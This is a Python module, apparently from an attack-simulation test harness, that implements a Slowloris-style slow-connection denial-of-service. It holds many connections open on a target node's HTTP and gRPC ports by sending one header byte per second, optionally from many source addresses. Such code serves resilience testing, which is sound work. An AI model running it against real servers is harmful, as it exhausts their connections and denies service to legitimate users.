"""Clients of any port that send a byte a second; one that was closed comes again, so that as many stay."""

from __future__ import annotations

import asyncio
import time
from typing import TYPE_CHECKING

from simulator.attack.assaults.http2_floods import PREFACE, frame
from simulator.attack.assaults.sockets import Connection, connect, drop, in_parallel
from simulator.attack.tally import MANY_STRANGERS, STRANGER, Tally, Victim

if TYPE_CHECKING:
    from simulator.attack.tally import NodeAddress

_AT_ONCE = 40
_SETTINGS, _HEADERS = 4, 1
_ENDS_HEADERS = 4


async def slow(victim: Victim, *, count: int, seconds: float, ports: list[int], spread: bool = False) -> Tally:
    """``count`` clients of each of these ports of the master; ``spread``: from many addresses.

    The figures say how many connections each port held in the mean, of those the node took or had not refused yet, and
    how many had to be opened for it. Complains when a port took none.
    """
    tally = Tally()
    sources = MANY_STRANGERS if spread else (STRANGER,)
    crowds = [_Crowd(victim.master, port, count, sources) for port in ports]
    await asyncio.gather(*(crowd.press(seconds, tally) for crowd in crowds))
    return tally


class _Crowd:
    """The clients of one port."""

    def __init__(self, node: NodeAddress, port: int, count: int, sources: tuple[str, ...]) -> None:
        self._node = node
        self._port = port
        self._count = count
        self._sources = sources
        self._content = slow_call() if port in node.grpc_ports else slow_request(node.host)
        self._held: dict[int, tuple[Connection, float]] = {}
        self._opened = 0

    async def press(self, seconds: float, tally: Tally) -> None:
        """A byte of each client every second, for so long."""
        deadline, sizes = time.monotonic() + seconds, []
        while (now := time.monotonic()) < deadline:
            await in_parallel(lambda number: self._come(number, deadline, tally), self._count, _AT_ONCE)
            self._write()
            sizes.append(len(self._held))
            await asyncio.sleep(max(0.0, now + 1.0 - time.monotonic()))
        for connection, _ in self._held.values():
            drop(connection)
        tally.sent += self._opened
        mean = round(sum(sizes) / max(1, len(sizes)), 1)
        tally.figures |= {f"opened_at_{self._port}": self._opened, f"held_at_{self._port}": mean}
        if not self._opened:
            tally.complaints.append(f"port {self._port} took none of {self._count} slow clients: nothing was attacked")

    async def _come(self, number: int, deadline: float, tally: Tally) -> None:
        if number in self._held or time.monotonic() >= deadline:
            return
        source = self._sources[number % len(self._sources)]
        connection = await connect(self._node.host, self._port, tally, source)
        if connection is not None:
            self._opened += 1
            self._held[number] = connection, time.monotonic()

    def _write(self) -> None:
        for number, (connection, since) in list(self._held.items()):
            if connection[0].at_eof() or connection[1].transport.is_closing():
                drop(connection)
                del self._held[number]
            else:
                at = int(time.monotonic() - since)
                connection[1].write(self._content[at : at + 1])


def slow_request(host: str) -> bytes:
    """A request whose headers take an hour at a byte a second."""
    return f"GET /targets HTTP/1.1\r\nHost: {host}\r\nX-Slow: {'x' * 3600}".encode()


def slow_call() -> bytes:
    """The beginning of a call whose headers take an hour at a byte a second."""
    return PREFACE + frame(_SETTINGS, 0, 0, b"") + frame(_HEADERS, _ENDS_HEADERS, 1, b"\x00" * 3600)
